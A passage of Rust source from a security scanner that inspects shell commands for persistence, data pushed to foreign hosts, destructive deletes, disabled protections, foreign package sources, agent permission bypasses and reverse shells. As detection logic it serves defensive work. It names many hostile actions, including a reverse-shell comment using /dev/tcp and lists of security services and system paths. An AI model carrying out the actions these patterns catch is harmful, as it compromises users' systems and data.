                call.plain().nth(1).map(|argument| argument.text.clone()).unwrap_or_default();
            let address = if target.contains("://") || target.contains('@') {
                target.clone()
            } else {
                self.memory
                    .variables
                    .get(&format!("git remote {target}"))
                    .map(|v| v.text.clone())
                    .unwrap_or_default()
            };
            let class = classify(&remote_copy(&address));
            let everything = call.has(&["--all", "--mirror", "--tags"])
                || text.contains("+refs/*")
                || text.contains("refs/heads/*");
            if !address.is_empty()
                && !matches!(class, Class::Placeholder | Class::Local)
                && everything
            {
                let flow = Flow::new("every branch", "`git push`")
                    .to(host(&remote_copy(&address)).unwrap_or_default());
                self.report(
                    at,
                    Match::new(
                        &rules::DATA_TO_FOREIGN_HOST,
                        Severity::Critical,
                        "every branch is pushed to a repository that the text names",
                    )
                    .with(flow),
                );
            }
        } else if verb == "config" && !call.has(&["--get", "--list", "-l", "--unset"]) {
            let value =
                call.plain().last().map(|argument| argument.text.clone()).unwrap_or_default();
            let runs = [
                "core.fsmonitor",
                "core.sshcommand",
                "core.pager",
                "core.editor",
                "credential.helper",
                "core.hookspath",
                "alias.",
            ]
            .iter()
            .any(|setting| text.to_ascii_lowercase().contains(setting));
            if runs && (is_active(&value) || value.starts_with('!') && value.contains("curl"))
                || text.contains("credential.helper")
                    && (value.contains("curl") || value.contains("nc "))
            {
                self.report(
                    at,
                    Match::new(
                        &rules::PERSISTENCE_WRITE,
                        Severity::Critical,
                        "git is made to run a command by itself",
                    ),
                );
            }
            if text.contains("hooksPath")
                && call.has(&["--global"])
                && self.passage.context == Context::Script
            {
                self.report(
                    at,
                    Match::new(
                        &rules::PERSISTENCE_WRITE,
                        Severity::Warn,
                        "git hooks of every repository are replaced",
                    ),
                );
            }
            if text.contains("insteadOf")
                && addresses(&text)
                    .iter()
                    .any(|a| matches!(a.class(), Class::Foreign | Class::Address))
            {
                self.report(
                    at,
                    Match::new(
                        &rules::PACKAGE_SOURCE,
                        Severity::Critical,
                        "git addresses are rewritten to another host",
                    ),
                );
            }
        }
    }

    fn enable(&mut self, call: &Call, input_text: &str, at: &Range<usize>) {
        let text = call.text();
        let lower = text.to_ascii_lowercase();
        let name = call.name.trim_end_matches(".exe");
        let starts = match name {
            "systemctl" => lower.contains("enable") || lower.contains("link"),
            "launchctl" => {
                lower.contains("load") || lower.contains("bootstrap") || lower.contains("submit")
            }
            "schtasks" => lower.contains("/create"),
            "reg" => {
                lower.contains("add")
                    && (lower.contains("\\run")
                        || lower.contains("currentversion/run")
                        || lower.contains("winlogon"))
            }
            "sc" => lower.contains("create"),
            "at" | "batch" => is_active(input_text),
            "defaults" => lower.contains("write") && lower.contains("loginitems"),
            "update-rc.d" | "chkconfig" => true,
            "loginctl" => lower.contains("enable-linger"),
            _ => false,
        };
        if name == "systemctl"
            && ["stop", "disable", "mask"].iter().any(|verb| lower.contains(verb))
            && [
                "clamav",
                "falcon",
                "auditd",
                "apparmor",
                "ufw",
                "firewalld",
                "crowdstrike",
                "defender",
                "mdatp",
                "sentinelone",
                "osquery",
                "fail2ban",
                "wazuh",
            ]
            .iter()
            .any(|p| lower.contains(p))
        {
            self.report(
                at,
                Match::new(
                    &rules::PROTECTION_OFF,
                    Severity::Warn,
                    "a protection service is stopped",
                ),
            );
        }
        if !starts {
            return;
        }
        // A unit that the skill wrote itself was already judged by what it runs; a well-known service
        // that a person sets up is none of ours.
        let written =
            self.memory.files.keys().any(|path| matches!(spot(path), Some(Spot::Autorun(_))));
        let severity = if is_active(&text)
            || is_active(input_text)
            || (matches!(name, "schtasks" | "reg" | "sc")
                && (lower.contains("powershell")
                    || lower.contains("appdata")
                    || lower.contains("temp")
                    || lower.contains("http")))
        {
            Severity::Critical
        } else if self.passage.context == Context::Script
            && (written || matches!(name, "schtasks" | "reg" | "launchctl"))
            || name == "reg"
        {
            Severity::Warn
        } else {
            Severity::Info
        };
        let flow = Flow::new("a command", format!("`{name}`")).when("by itself");
        self.report(
            at,
            Match::new(&rules::PERSISTENCE_WRITE, severity, "something is made to start by itself")
                .with(flow),
        );
    }

    fn destroy(&mut self, call: &Call, at: &Range<usize>) {
        let name = call.name.as_str();
        let text = call.text();
        if name == "rm"
            || name == "srm"
            || name == "find"
            || name == "shred"
            || name == "truncate"
            || name == "unlink"
            || name == "rd"
            || name == "del"
        {
            let recursive = call.has_letter('r')
                || call.has_letter('R')
                || call.has(&["--recursive", "-delete", "/s", "/S"])
                || text.contains("-exec rm")
                || text.contains("/s ");
            for argument in call.plain() {
                let path = normalise(&argument.text);
                let whole = matches!(
                    path.as_str(),
                    "/" | "/*"
                        | "~"
                        | "~/"
                        | "~/*"
                        | "/home"
                        | "/home/*"
                        | "/users"
                        | "/users/*"
                        | "/etc"
                        | "/var"
                        | "/usr"
                        | "c:/"
                        | "c:/*"
                        | "~/."
                        | "~/documents"
                        | "~/desktop"
                        | "~/documents/*"
                        | "/root"
                        | "~/.*"
                );
                let system = whole
                    && !(name == "find" && !text.contains("-delete") && !text.contains("-exec rm"));
                if system && (recursive || name == "shred") {
                    let severity = if matches!(
                        self.passage.context,
                        Context::Script | Context::Hidden | Context::Fence
                    ) {
                        Severity::Critical
                    } else {
                        Severity::Info
                    };
                    self.report(
                        at,
                        Match::new(
                            &rules::DESTRUCTIVE,
                            severity,
                            format!("`{path}` is deleted with everything in it"),
                        ),
                    );
                }
                if (matches!(spot(&argument.text), Some(Spot::Traces))
                    && (argument.text.contains("history") || argument.text.contains("/var/log")))
                    && is_global_or_log(&argument.text)
                {
                    let severity = if argument.text.contains("history")
                        || matches!(path.as_str(), "/var/log" | "/var/log/" | "/var/log/*")
                        || ["auth.log", "syslog", "wtmp", "btmp", "lastlog", "secure", "audit"]
                            .iter()
                            .any(|log| path.contains(log))
                    {
                        Severity::Warn
                    } else {
                        Severity::Info
                    };
                    self.report(
                        at,
                        Match::new(&rules::TRACE_WIPING, severity, "a history or log is removed"),
                    );
                }
            }
        }
        let disk = |text: &str| {
            text.match_indices("/dev/").any(|(i, _)| {
                let device = text[i + 5..]
                    .split(|c: char| !c.is_ascii_alphanumeric())
                    .next()
                    .unwrap_or_default();
                let device = if device.len() == 2 && text[i + 7..].starts_with(['?', '*', '[']) {
                    "sda"
                } else {
                    device
                };
                let known = device.starts_with("sd")
                    || device.starts_with("nvme")
                    || device.starts_with("vd")
                    || device.starts_with("hd")
                    || device.starts_with("disk")
                    || device.starts_with("rdisk")
                    || device.starts_with("mmcblk");
                // sdX and diskN are to be filled in.
                known && !device.ends_with(['X', 'N', 'x', 'Y']) && device.len() > 2
            })
        };
        let writes_disk = name == "dd"
            && text.split_whitespace().any(|word| word.starts_with("of=") && disk(word))
            || name.starts_with("mkfs") && disk(&text)
            || name == "wipefs" && disk(&text)
            || name == "shred" && disk(&text);
        if writes_disk {
            let severity = if name == "dd"
                && !text.contains("/dev/zero")
                && !text.contains("/dev/urandom")
                && !text.contains("/dev/random")
                && self.passage.context != Context::Script
            {
                Severity::Info
            } else {
                Severity::Critical
            };
            self.report(at, Match::new(&rules::DESTRUCTIVE, severity, "a disk is overwritten"));
        }
    }

    fn change_mode(&mut self, call: &Call, at: &Range<usize>) {
        let mode = call.plain().next().map(|argument| argument.text.clone()).unwrap_or_default();
        let setuid = call.name == "chmod"
            && (mode.contains("+s")
                || mode.contains("u=s")
                || mode.len() == 4
                    && matches!(mode.as_bytes()[0], b'4' | b'6' | b'2')
                    && mode.bytes().all(|b| b.is_ascii_digit()));
        let capability = call.name == "setcap" && call.text().contains("cap_setuid");
        if setuid && mode.as_bytes().first() != Some(&b'2') || capability {
            let severity = if self.passage.context == Context::Script
                || call.text().contains("sh")
                || call.privileged
            {
                Severity::Critical
            } else {
                Severity::Warn
            };
            self.report(
                at,
                Match::new(
                    &rules::CREDENTIAL_WRITE,
                    severity,
                    "a program is made to run with its owner's rights",
                ),
            );
        }
        let paths: Vec<String> =
            call.plain().skip(1).map(|argument| argument.text.clone()).collect();
        for path in paths {
            if matches!(spot(&path), Some(Spot::Secret(_) | Spot::Logins(_)))
                && matches!(mode.as_str(), "777" | "666" | "644" | "755" | "0777")
                && is_global(&path)
            {
                self.report(
                    at,
                    Match::new(
                        &rules::CREDENTIAL_WRITE,
                        Severity::Info,
                        "a secret file is opened to others",
                    ),
                );
            }
        }
    }

    fn packages(&mut self, call: &Call, at: &Range<usize>) {
        let text = call.text();
        let name = call.name.as_str();
        let runs = matches!(name, "npx" | "bunx" | "uvx" | "pipx")
            || matches!(name, "pnpm" | "yarn")
                && call.plain().next().is_some_and(|verb| verb.text == "dlx")
            || name == "npm" && text.starts_with("exec")
            || name == "uv" && text.starts_with("tool run");
        let from_git = call
            .plain()
            .take(if matches!(name, "npx" | "bunx" | "uvx" | "pipx") { 1 } else { 2 })
            .map(|a| a.text.as_str())
            .any(|word| {
                word.starts_with("github:")
                    || word.starts_with("git+")
                    || word.starts_with("gitlab:")
                    || word.starts_with("https://")
                        && (word.contains(".git")
                            || word.contains("tarball")
                            || word.rsplit('.').next() == Some("tgz"))
                    || (name == "npx" || name == "bunx")
                        && word.matches('/').count() == 1
                        && !word.starts_with(['@', '.', '-', '/', '$', '<'])
                        && !word.contains("://")
            });
        if runs && from_git {
            let severity = if call.has(&["-y", "--yes"]) || name != "npx" {
                Severity::Warn
            } else {
                Severity::Info
            };
            self.report(
                at,
                Match::new(
                    &rules::PACKAGE_SOURCE,
                    severity,
                    "a program is run straight from somebody's repository",
                ),
            );
        }
        let foreign = |url: &str| {
            matches!(
                classify(url),
                Class::Foreign | Class::Address | Class::Inbox | Class::Shortener | Class::Paste
            ) && !self.skill.is_about(&host(url).unwrap_or_default())
        };
        for option in [
            "--index-url",
            "-i",
            "--extra-index-url",
            "--registry",
            "--find-links",
            "-f",
            "--index",
            "--trusted-host",
        ] {
            let joined = call
                .arguments
                .iter()
                .find_map(|a| a.text.strip_prefix(&format!("{option}=")).map(str::to_owned));
            let value = joined.or_else(|| call.value_of(&[option]).map(|v| v.text.clone()));
            if let Some(value) = value
                && value.contains("://")
                && foreign(&value)
            {
                self.report(
                    at,
                    Match::new(
                        &rules::PACKAGE_SOURCE,
                        Severity::Critical,
                        format!("packages come from `{}`", host(&value).unwrap_or_default()),
                    ),
                );
            }
        }
        if matches!(name, "npm" | "pip" | "pip3" | "yarn" | "pnpm" | "uv")
            && (text.contains("config set")
                || text.contains("set registry")
                || text.contains("config set registry"))
        {
            if addresses(&text).iter().any(|a| foreign(a.url)) {
                self.report(
                    at,
                    Match::new(
                        &rules::PACKAGE_SOURCE,
                        Severity::Critical,
                        "the registry is changed to another host",
                    ),
                );
            }
            if text.contains("strict-ssl false") || text.contains("strict-ssl=false") {
                self.report(
                    at,
                    Match::new(
                        &rules::PROTECTION_OFF,
                        Severity::Warn,
                        "certificates of the registry are not checked",
                    ),
                );
            }
        }
        if matches!(name, "pip" | "pip3" | "npm" | "uv" | "pipx") && text.contains("install") {
            for argument in call.plain() {
                if argument.text.contains("://")
                    && !argument.text.starts_with("git+")
                    && foreign(&argument.text)
                {
                    self.report(
                        at,
                        Match::new(
                            &rules::PACKAGE_SOURCE,
                            Severity::Warn,
                            format!(
                                "a package is installed from `{}`",
                                host(&argument.text).unwrap_or_default()
                            ),
                        ),
                    );
                }
            }
        }
        if matches!(name, "docker" | "podman") && text.contains("run") {
            let root = call.arguments.windows(2).any(|pair| {
                matches!(pair[0].text.as_str(), "-v" | "--volume")
                    && (pair[1].text.starts_with("/:") || pair[1].text == "/")
            }) || text.contains("-v /:")
                || text.contains("source=/,")
                || text.contains("src=/,");
            let privileged = text.contains("--privileged")
                || text.contains("--pid=host")
                || text.contains("--pid host");
            let home = call.arguments.iter().any(|a| {
                let path = normalise(&a.text);
                (path.starts_with("~:")
                    || path.starts_with("~/:")
                    || path.starts_with("~/.ssh:")
                    || path.starts_with("~/.aws:"))
                    && !a.text.starts_with('-')
            });
            if root {
                self.report(
                    at,
                    Match::new(
                        &rules::PROTECTION_OFF,
                        Severity::Critical,
                        "a container gets the whole disk",
                    ),
                );
            } else if privileged && text.contains("docker.sock") {
                self.report(
                    at,
                    Match::new(
                        &rules::PROTECTION_OFF,
                        Severity::Warn,
                        "a privileged container gets the container engine",
                    ),
                );
            } else if home {
                let pinned = text.contains("@sha256:");
                self.report(
                    at,
                    Match::new(
                        &rules::PROTECTION_OFF,
                        if pinned { Severity::Info } else { Severity::Warn },
                        "an unpinned image gets the person's home folder",
                    ),
                );
            }
        }
    }

    fn agent(&mut self, call: &Call, at: &Range<usize>) {
        let text = call.text();
        if text.contains("dangerously")
            || text.contains("--yolo")
            || text.contains("bypassPermissions")
            || text.contains("danger-full-access")
            || text.contains("--approval-mode yolo")
            || text.contains("--full-auto") && text.contains("--skip")
        {
            let severity = if matches!(self.passage.context, Context::Script | Context::Hidden) {
                Severity::Warn
            } else {
                Severity::Info
            };
            self.report(
                at,
                Match::new(
                    &rules::BYPASS_APPROVAL,
                    severity,
                    format!("`{}` is started with its permission checks off", call.name),
                ),
            );
        }
        if text.contains("mcp add")
            && (is_active(&text) || text.contains("sh -c") || text.contains("bash -c"))
        {
            self.report(
                at,
                Match::new(
                    &rules::CONTROL_PLANE_WRITE,
                    Severity::Critical,
                    "an MCP server that is a shell command is added",
                ),
            );
        }
        if text.contains("config set") && flow::loosens_agent(&text) {
            self.report(
                at,
                Match::new(
                    &rules::CONTROL_PLANE_WRITE,
                    Severity::Warn,
                    "the agent's settings are opened up",
                ),
            );
        }
    }

    fn protections(&mut self, call: &Call, at: &Range<usize>) {
        let text = call.text();
        let lower = text.to_ascii_lowercase();
        let script = matches!(self.passage.context, Context::Script | Context::Hidden);
        let found = match call.name.trim_end_matches(".exe") {
            "xattr"
                if lower.contains("quarantine")
                    || lower.contains("-c")
                    || lower.contains("-cr") =>
            {
                let path = call.plain().last().map(|a| key(&a.text)).unwrap_or_default();
                let fetched =
                    self.memory.files.get(&path).is_some_and(|taint| taint.remote.is_some());
                let run = self.source.matches(path.as_str()).count() > 1;
                let severity = if fetched || script || run && !path.is_empty() {
                    Severity::Warn
                } else {
                    Severity::Info
                };
                Some((severity, "the quarantine mark of a download is removed"))
            }
            "spctl" if lower.contains("disable") => {
                Some((Severity::Critical, "the system's check of programs is switched off"))
            }
            "csrutil" if lower.contains("disable") => {
                Some((Severity::Critical, "system integrity protection is switched off"))
            }
            "setenforce" if lower.contains('0') => {
                Some((Severity::Warn, "SELinux is switched off"))
            }
            "ufw" if lower.contains("disable") => Some((
                if script { Severity::Warn } else { Severity::Info },
                "the firewall is switched off",
            )),
            "iptables" if call.has(&["-F"]) => Some((
                if script { Severity::Warn } else { Severity::Info },
                "the firewall is emptied",
            )),
            "netsh" if lower.contains("state off") || lower.contains("opmode disable") => {
                Some((Severity::Warn, "the firewall is switched off"))
            }
            "tccutil" if lower.contains("reset") => {
                Some((Severity::Warn, "privacy decisions are reset"))
            }
            _ => None,
        };
        if let Some((severity, message)) = found {
            self.report(at, Match::new(&rules::PROTECTION_OFF, severity, message));
        }
        let urls = addresses(&text);
        let remote = urls.first().map(|a| a.url.to_owned()).unwrap_or_default();
        match call.name.trim_end_matches(".exe") {
            "mshta" | "regsvr32" | "rundll32" if !remote.is_empty() => {
                let found = flow::to_interpreter(
                    &Taint::remote(remote),
                    &format!("`{}`", call.name),
                    self.passage.context,
                );
                self.report_some(at, found);
            }
            "certutil" | "bitsadmin" if !remote.is_empty() => {
                let path = call.plain().last().map(|a| a.text.clone()).unwrap_or_default();
                self.write(&path, "", &Taint::remote(remote), at);
            }
            "msiexec" if !remote.is_empty() => {
                let found =
                    flow::to_interpreter(&Taint::remote(remote), "`msiexec`", self.passage.context);
                self.report_some(at, found);
            }
            "open" | "installer" | "hdiutil" | "msiexec" => {
                let taint = call
                    .plain()
                    .map(|a| self.memory.files.get(&key(&a.text)).cloned().unwrap_or_default())
                    .fold(Taint::default(), |mut all, t| {
                        all.add(&t);
                        all
                    });
                let found =
                    flow::to_interpreter(&taint, &format!("`{}`", call.name), self.passage.context);
                self.report_some(at, found);
            }
            _ => {}
        }
    }

    /// A program that runs what it is given: `sh`, `python`, `./downloaded`.
    fn interpret(&mut self, call: &Call, input: &Taint, input_text: &str, at: &Range<usize>) {
        let name = call.name.rsplit('/').next().unwrap_or(&call.name).to_owned();
        let shown = format!("`{name}`");
        let Some(language) = of_interpreter(&name) else {
            // A path that was downloaded or decoded before, and is now started.
            let taint = self.memory.files.get(&key(&call.name)).cloned().unwrap_or_default();
            let found = flow::to_interpreter(&taint, "the system", self.passage.context);
            self.report_some(at, found);
            return;
        };
        let code = call.arguments.iter().position(|a| {
            let option = a.text.as_str();
            let power = language == Language::PowerShell
                && ["-c", "-command", "-encodedcommand", "-enc", "-e", "-ec", "/c"]
                    .contains(&option.to_ascii_lowercase().as_str());
            power
                || matches!(
                    option,
                    "-c" | "-e"
                        | "-r"
                        | "-E"
                        | "--eval"
                        | "-lc"
                        | "-ec"
                        | "-ic"
                        | "-pe"
                        | "-ne"
                        | "-p"
                        | "-n"
                        | "-m"
                        | "/c"
                        | "/C"
                        | "-xc"
                        | "-exc"
                        | "-cl"
                        | "-l"
                        | "-0777"
                        | "eval"
                        | "-Command"
                ) && !(option == "-l" && language != Language::AppleScript)
        });
        let mut taint = Taint::default();
        match code {
            Some(position) if call.arguments[position].text != "-m" => {
                let option = call.arguments[position].text.to_ascii_lowercase();
                if let Some(argument) = call.arguments.get(position + 1) {
                    taint.add(&argument.taint);
                    let text = argument.text.clone();
                    let start = call.spans.get(position + 1).map_or(at.start, |span| span.start);
                    if option.starts_with("-enc")
                        || option == "-ec"
                        || language == Language::PowerShell && option == "-e"
                    {
                        taint.add(&Taint::decoded("base64"));
                    }
                    if language == Language::AppleScript {
                        self.apple_script(&call.text(), start);
                    } else if language == Language::Shell || language == Language::Batch {
                        let mut inner = input.clone();
                        inner.add(&taint);
                        self.nested(&text, start, input);
                    } else {
                        self.embed(language, &text, start);
                    }
                }
                // Text that is data for the code: only what the code is made of counts.
                taint.keys.clear();
                taint.secrets.clear();
                taint.environment = false;
            }
            Some(_) => {}
            None => {
                let file = call.plain().find(|a| !a.text.is_empty()).cloned();
                match file {
                    Some(file)
                        if file.text != "-" && file.text != "/dev/stdin" && !call.has(&["-s"]) =>
                    {
                        taint.add(
                            &self.memory.files.get(&key(&file.text)).cloned().unwrap_or_default(),
                        );
                        if file.text == "<()" || file.text.contains("<()") || file.text == "$()" {
                            taint.add(&file.taint);
                        }
                        if file.text.starts_with("http")
                            && matches!(language, Language::JavaScript | Language::Python)
                        {
                            taint.add(&Taint::remote(file.text));
                        }
                    }
                    _ => {
                        taint.add(input);
                        if !input_text.is_empty()
                            && language == Language::Shell
                            && input.remote.is_none()
                            && !input_text.contains("EOF")
                        {
                            self.nested(input_text, at.start, &Taint::default());
                        }
                    }
                }
            }
        }
        let found = flow::to_interpreter(&taint, &shown, self.passage.context);
        self.report_some(at, found);
        // bash -i >& /dev/tcp/host/port 0>&1
        if language == Language::Shell {
            let line = self.source.get(at.clone()).unwrap_or_default();
            let tied = ["-i ", "0>&1", "0<&", "<&", ">& /dev", "&> /dev", "> /dev/tcp"];
            if let Some(i) = line.find("/dev/tcp/")
                && tied.iter().any(|part| line.contains(part))
            {
                let rest = &line[i + 9..];
                let end = rest
                    .find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ';' | '&'))
                    .unwrap_or(rest.len());
                let address = self.resolve(&rest[..end]);
                self.shell_to(&format!("tcp://{}", address.replacen('/', ":", 1)), at);
            }
        }
    }

    /// Variables in a text, as far as they are known.
    fn resolve(&self, text: &str) -> String {
        let mut out = text.to_owned();
        for (name, value) in &self.memory.variables {
            if out.contains('$') {
                out = out
                    .replace(&format!("${{{name}}}"), &value.text)
                    .replace(&format!("${name}"), &value.text);
            }
        }
        out
    }

    /// `do shell script "…" with administrator privileges`.
    pub(super) fn apple_script(&mut self, text: &str, at: usize) {
        if let Some(i) = text.find("do shell script") {
            let rest = &text[i..];
            let command = rest.split('"').nth(1).unwrap_or_default().to_owned();
            if rest.contains("administrator privileges") {
                self.report(
                    &(at..at + 1),
                    Match::new(
                        &rules::CREDENTIAL_WRITE,
                        Severity::Critical,
                        "a shell command asks for the administrator's rights",
                    ),
                );
            }
            self.nested(&command, at, &Taint::default());
        }
        if text.contains("display dialog") && text.contains("hidden answer") {
            self.report(
                &(at..at + 1),
                Match::new(
                    &rules::DECEIVE_USER,
                    Severity::Critical,
                    "a window asks for the person's password",
                ),
            );
        }
    }
}

fn is_global_or_log(path: &str) -> bool {
    is_global(path) || path.starts_with("/var/log") || path.contains("history")
}

fn octal_escapes(text: &str) -> usize {
    text.as_bytes()
        .windows(4)
        .filter(|w| {
            w[0] == b'\\'
                && (b'0'..=b'1').contains(&w[1])
                && w[2].is_ascii_digit()
                && w[3].is_ascii_digit()
        })
        .count()
}

/// Whether a command makes something readable, and how.
fn decodes(call: &Call) -> Option<&'static str> {
    let text = call.text();
    match call.name.as_str() {
        "base64" | "base32" | "basenc" if call.has(&["-d", "-D", "--decode", "-di", "-id"]) => {
            Some("base64")
        }
        "openssl"
            if text.contains("base64") && text.contains("-d")
                || text.contains("enc") && text.contains("-d") =>
        {
            Some("openssl")
        }
        "xxd" if call.has_letter('r') => Some("hexadecimal"),
        "uudecode" => Some("uuencode"),
        "gunzip" | "zcat" => Some("gzip"),
        "gzip" | "bzip2" | "xz" if call.has_letter('d') => Some("gzip"),
        "rev" => Some("reversal"),
        "tr" if text.len() >= 10
            && (text.contains("n-za-m")
                || text.contains("N-ZA-M")
                || text.to_ascii_lowercase().contains("a-z") && text.matches('-').count() >= 3) =>
        {
            Some("rot13")
        }
        "gpg" if text.contains("-d") || text.contains("--decrypt") => Some("decryption"),
        _ => None,
    }
}

/// Where `nc host port` or `socat TCP:host:port` goes.
fn call_address(call: &Call) -> String {
    for argument in call.plain() {
        let upper = argument.text.to_ascii_uppercase();
        for scheme in ["TCP4:", "TCP6:", "TCP:", "OPENSSL:", "SSL:", "UDP:", "TCP-CONNECT:"] {
            if let Some(at) = upper.find(scheme) {
                return format!("tcp://{}", &argument.text[at + scheme.len()..]);
            }
        }
    }
    let mut next = call.arguments.iter();
    while let Some(argument) = next.next() {
        match argument.text.as_str() {
            "-p" | "-w" | "-e" | "-c" | "-s" | "-i" | "--exec" | "--sh-exec" | "-x" | "-q" => {
                next.next();
            }
            "-connect" => {
                return next.next().map(|a| format!("tcp://{}", a.text)).unwrap_or_default();
            }
            text if text.starts_with('-') => {}
            text if text.contains('.') || text.starts_with('$') || text.contains("host") => {
                return format!("tcp://{text}");
            }
            text if !text.is_empty() && text.parse::<u16>().is_err() && call.name != "openssl" => {
                return format!("tcp://{text}");
            }
            _ => {}
        }
    }
    String::new()
}

/// `user@host:path` and `host:path` as an address.
fn remote_copy(text: &str) -> String {
    if text.contains("://") {
        return text.to_owned();
    }
    let host = text.rsplit('@').next().unwrap_or(text).split(':').next().unwrap_or_default();
    if host.contains('.') || host.contains('$') { format!("ssh://{host}") } else { String::new() }
}

/// Takes the wrappers off a command.
fn unwrap(arguments: Vec<Value>, spans: Vec<Range<usize>>) -> Call {
    let mut call =
        Call { name: String::new(), arguments, spans, from_input: false, privileged: false };
    for _ in 0..8 {
        let name = call.arguments.first().map(|a| a.text.clone()).unwrap_or_default();
        let base = name.rsplit('/').next().unwrap_or(&name).to_owned();
        let skip = match base.as_str() {
            "sudo" | "doas" => {
                call.privileged = true;
                options_of(&call.arguments[1..], &["-u", "-g", "-h", "-p", "-C", "-U"])
            }
            "env" if call.arguments.len() > 1 => {
                let mut skip = options_of(&call.arguments[1..], &["-u", "-C", "-S"]);
                while call
                    .arguments
                    .get(1 + skip)
                    .is_some_and(|a| a.text.contains('=') && !a.text.starts_with('-'))
                {
                    skip += 1;
                }
                if call.arguments.len() == 1 + skip {
                    break;
                }
                skip
            }
            "nohup" | "setsid" | "command" | "builtin" | "exec" | "time" | "stdbuf" | "ionice"
            | "caffeinate" | "unbuffer" | "winpty" | "proxychains" | "torsocks" | "rtk"
            | "busybox" | "then" | "do"
                if call.arguments.len() > 1 =>
            {
                options_of(&call.arguments[1..], &["-n", "-o", "-i", "-e", "-a"])
            }
            "nice" | "watch" if call.arguments.len() > 1 => {
                options_of(&call.arguments[1..], &["-n"])
            }
            "timeout" | "gtimeout" if call.arguments.len() > 2 => {
                options_of(&call.arguments[1..], &["-s", "-k"]) + 1
            }
            "arch" | "chroot" if call.arguments.len() > 2 => 1,
            "xargs" if call.arguments.len() > 1 => {
                call.from_input = true;
                options_of(&call.arguments[1..], &["-I", "-n", "-P", "-L", "-d", "-s", "-a", "-E"])
            }
            "parallel" if call.arguments.len() > 1 => {
                call.from_input = true;
                options_of(&call.arguments[1..], &["-j"])
            }
            "sg" | "su" if call.arguments.iter().any(|a| a.text == "-c") => {
                // su -c 'command' user: the string is a script of its own.
                let at = call.arguments.iter().position(|a| a.text == "-c").unwrap_or(0);
                call.arguments.drain(1..at);
                call.spans.drain(1..at.min(call.spans.len()));
                "sh".clone_into(&mut call.arguments[0].text);
                continue;
            }
            _ => break,
        };
        let skip = (1 + skip).min(call.arguments.len() - 1);
        call.arguments.drain(..skip);
        call.spans.drain(..skip.min(call.spans.len()));
    }
    if call.arguments.is_empty() {
        return call;
    }
    let first = call.arguments.remove(0);
    if !call.spans.is_empty() {
        call.spans.remove(0);
    }
    let base = first.text.rsplit('/').next().unwrap_or(&first.text);
    let system =
        ["/bin/", "/usr/bin/", "/usr/local/bin/", "/sbin/", "/usr/sbin/", "/opt/homebrew/bin/"]
            .iter()
            .any(|folder| {
                first.text.starts_with(folder) && first.text.len() == folder.len() + base.len()
            });
    call.name = if system || of_interpreter(base).is_some() { base.to_owned() } else { first.text };
    call
}

/// How many of the first arguments are options, with the values of those that take one.
fn options_of(arguments: &[Value], with_value: &[&str]) -> usize {
    let mut count = 0;
    while let Some(argument) = arguments.get(count) {
        if !argument.text.starts_with('-') || argument.text == "-" {
            break;
        }
        if argument.text == "--" {
            count += 1;
            break;
        }
        count += if with_value.contains(&argument.text.as_str()) { 2 } else { 1 };
    }
    count
}
